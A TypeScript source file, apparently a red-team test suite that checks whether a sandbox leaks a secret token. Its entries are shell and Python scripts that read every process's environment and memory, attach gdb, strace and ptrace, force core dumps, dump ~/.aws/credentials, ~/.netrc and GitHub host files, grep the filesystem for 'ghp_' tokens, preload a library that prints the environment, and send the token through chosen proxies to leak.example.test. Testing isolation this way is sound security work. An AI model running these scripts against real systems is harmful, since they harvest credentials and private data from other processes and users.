/** What a command does to find the value in the memory, files and processes of its world. It prints what it finds. */
export interface ProcessAttempt {
  name: string;
  script: string;
  /** Whether it may end its own command, as by a signal to a helper of ours in its world. */
  ends?: true;
}

const of = (name: string, script: string): ProcessAttempt => ({ name: `process: ${name}`, script });

/** Every process that the command sees, and those of the host by number. */
const ALL = 'for p in /proc/[0-9]* /proc/self /proc/1 /proc/$PPID /proc/$HOST_PID /proc/$GATE_PID; do';
const PIDS = 'for p in $(ls /proc | grep -E "^[0-9]+$") $PPID $HOST_PID $GATE_PID; do';
const FILES = ['environ', 'cmdline', 'maps', 'status', 'stat', 'auxv', 'comm', 'io', 'stack', 'syscall', 'wchan'];
const MORE = ['mountinfo', 'limits', 'net/unix', 'net/tcp', 'timers', 'smaps', 'personality', 'attr/current'];

const python = (lines: string) => `python3 - <<'END'\nimport ctypes, glob, os, socket, struct, sys\n${lines}\nEND`;
const ways = ['mem', 'call', 'attach', 'seize', 'descriptors'];

export const processes: ProcessAttempt[] = [
  ...[...FILES, ...MORE].map((file) => of(file, `${ALL} cat $p/${file}; done 2>/dev/null | tr '\\0' '\\n'`)),
  ...[...FILES.slice(0, 3)].map((file) =>
    of(`${file} of threads`, `${ALL} cat $p/task/*/${file}; done 2>/dev/null | tr '\\0' '\\n'`),
  ),
  ...ways.map((way) => of(`${way} by C`, `${PIDS} timeout 5 ./reach ${way} $p; done`)),
  ...ways.map((way) => of(`${way} by C in new namespaces`, `${PIDS} timeout 5 unshare -Ur ./reach ${way} $p; done`)),
  of(
    'descriptors by /proc',
    `${ALL} for f in $p/fd/*; do readlink $f; timeout 0.2 head -c 65536 <$f; done; done 2>/dev/null`,
  ),
  of('descriptors by map_files', `${ALL} cat $p/map_files/*; done 2>/dev/null | grep -a -o 'ghp_[A-Za-z0-9]*'`),
  of('root', `${ALL} ls $p/root/ $p/root/proc $p/cwd/; cat $p/root/proc/*/environ; done 2>/dev/null | tr '\\0' '\\n'`),
  of(
    'the pages of the system',
    'cat /proc/kcore /proc/kmsg /dev/mem /dev/kmem /dev/kmsg 2>/dev/null | head -c 1000000 | strings',
  ),
  of(
    'gdb',
    `${PIDS} timeout 5 gdb -p $p -batch -ex 'info proc mappings' -ex 'generate-core-file core.$p'; done 2>&1; strings core.* 2>/dev/null`,
  ),
  of('gcore', `${PIDS} timeout 5 gcore -o core $p; done 2>&1; strings core.* 2>/dev/null`),
  of('strace', `${PIDS} timeout 2 strace -f -e trace=all -s 9999 -p $p; done 2>&1`),
  of(
    'a core of its own',
    'ulimit -c unlimited; bash -c "kill -SEGV \\$\\$"; cat /proc/sys/kernel/core_pattern; strings core* 2>/dev/null; true',
  ),
  {
    ...of(
      'a core of others',
      `${PIDS} kill -SEGV $p; kill -QUIT $p; done 2>/dev/null; strings core* /var/lib/systemd/coredump/* 2>/dev/null; true`,
    ),
    ends: true,
  },
  of('the environment of all', 'env; export -p; cat /proc/self/environ; ps axeww; true'),
  of(
    'the history and files of the home',
    'cat ~/.bash_history ~/.netrc ~/.npmrc ~/.config/gh/hosts.yml ~/.aws/credentials 2>/dev/null; true',
  ),
  of(
    'the bundle of certificates',
    'cat "$SSL_CERT_FILE"; grep -l "PRIVATE KEY" "$SSL_CERT_FILE" "$(dirname "$SSL_CERT_FILE")"/*; true',
  ),
  of(
    'all files that are small',
    "timeout 20 grep -rashoE 'ghp_[A-Za-z0-9]{36}' /run /tmp /dev/shm /var/tmp /etc ~ 2>/dev/null; true",
  ),
  of(
    'files of our state',
    'timeout 20 grep -rashoE \'ghp_[A-Za-z0-9]{36}\' ~/.local ~/.cache "$XDG_STATE_HOME" "$XDG_RUNTIME_DIR" 2>/dev/null; true',
  ),
  of(
    'unix sockets',
    python(`
for line in open("/proc/net/unix").read().splitlines()[1:]:
    name = line.split()[-1] if len(line.split()) > 7 else ""
    print(name)
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_UNIX, kind); s.settimeout(0.3)
            s.connect(name.replace("@", "\\0", 1)); s.send(os.environ["TOKEN"].encode()); print(s.recv(65536))
        except Exception as e: print(e)`),
  ),
  of(
    'a question for the value over own descriptors',
    python(`
question = bytes([len(os.environ["TOKEN"])]) + os.environ["TOKEN"].encode()
for n in range(3, 64):
    try:
        s = socket.socket(fileno=os.dup(n)); s.settimeout(0.2)
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        s.sendmsg([question], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", b.fileno()))])
        a.settimeout(0.2); print(n, a.recv(65536), s.recv(65536))
    except Exception as e: print(n, e)`),
  ),
  of(
    'a question for the value to ports of the gate',
    python(`
question = bytes([len(os.environ["TOKEN"])]) + os.environ["TOKEN"].encode()
for host in ("127.0.0.1", "198.18.0.1", "198.18.0.2", "198.19.255.254", "10.0.0.1", "169.254.1.1"):
    for port in (1, 53, 80, 443, 1024, 4444, 8080, 9000):
        try:
            s = socket.create_connection((host, port), 0.1); s.settimeout(0.2); s.send(question); print(host, port, s.recv(65536))
        except Exception as e: print(host, port, e)`),
  ),
  of(
    'process_madvise and kcmp',
    python(`
libc = ctypes.CDLL(None, use_errno=True)
for p in [int(n) for n in os.listdir("/proc") if n.isdigit()]:
    for call in (312, 440, 434, 448): print(p, call, libc.syscall(call, p, os.getpid(), 0, 0, 0), ctypes.get_errno())`),
  ),
  of(
    'userfaultfd, memfd_secret, bpf, perf',
    python(`
libc = ctypes.CDLL(None, use_errno=True)
for call in (323, 447, 321, 298, 425, 310, 311): print(call, libc.syscall(call, 0, 0, 0, 0, 0), ctypes.get_errno())`),
  ),
  of(
    'packets of the link',
    python(`
for family, kind, protocol in ((17, 3, 0x300), (17, 2, 0x300), (2, 3, 6), (2, 3, 255), (10, 3, 6)):
    try:
        s = socket.socket(family, kind, protocol); s.settimeout(0.5); print(s.recv(65536))
    except Exception as e: print(e)`),
  ),
  of(
    'a library before others',
    `cat >x.c <<'END'
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void go(void) { FILE *f = fopen("/proc/self/environ", "r"); char b[65536]; size_t n = fread(b, 1, sizeof b, f); write(1, b, n); }
END
cc -shared -fPIC -o x.so x.c && LD_PRELOAD=$PWD/x.so env; true`,
  ),
  of('a program of root', 'cp ./reach ./risen; chmod 4755 ./risen; ./risen mem 1; ./risen mem $PPID; true'),
  of(
    'what a child of init sees',
    "(setsid bash -c 'cat /proc/1/environ /proc/1/maps /proc/$PPID/environ' &) ; wait; sleep 0.3",
  ),
  of('swap', 'cat /proc/swaps /swapfile /swap.img 2>/dev/null | head -c 100000; true'),
  of(
    'a debugger of its own curl',
    'ltrace -s 9999 -o trace.txt curl -s -H "X-Key: $TOKEN" "https://$SECRET_HOST/echo"; strace -f -s 9999 -o trace2.txt curl -s -H "X-Key: $TOKEN" "https://$SECRET_HOST/echo"; cat trace*.txt 2>/dev/null; true',
  ),
  of(
    'the keys of TLS',
    'SSLKEYLOGFILE=$PWD/keys curl -sv --trace-ascii trace3.txt -H "X-Key: $TOKEN" "https://$SECRET_HOST/echo" 2>&1; cat keys trace3.txt 2>/dev/null; true',
  ),
  of(
    'redirects that curl follows',
    'curl -sL --location-trusted -H "X-Key: $TOKEN" "https://$SECRET_HOST/redirect" -o - 2>&1; true',
  ),
  of(
    'a resolver of its own',
    'curl -s --resolve "api.example.test:$LEAK_PORT:127.0.0.1" --connect-to "::leak.example.test:$LEAK_PORT" -k -H "X-Key: $TOKEN" "https://$SECRET_HOST/" 2>&1; true',
  ),
  of(
    'a proxy of its own',
    'curl -s -x "http://leak.example.test:$LEAK_PORT" -H "X-Key: $TOKEN" "https://$SECRET_HOST/" 2>&1; true',
  ),
  of(
    'a proxy that is the host',
    'curl -sk -x "https://$SECRET_HOST" -H "X-Key: $TOKEN" "https://leak.example.test:$LEAK_PORT/" 2>&1; true',
  ),
  of(
    'an authority of its own',
    python(`
import ssl, urllib.request
context = ssl._create_unverified_context()
for path in ("echo", "gzip-body", "a"):
    try: print(urllib.request.urlopen(urllib.request.Request(f"https://{os.environ['SECRET_HOST']}/{path}", headers={"X-Key": os.environ["TOKEN"]}), context=context).read())
    except Exception as e: print(e)`),
  ),
];
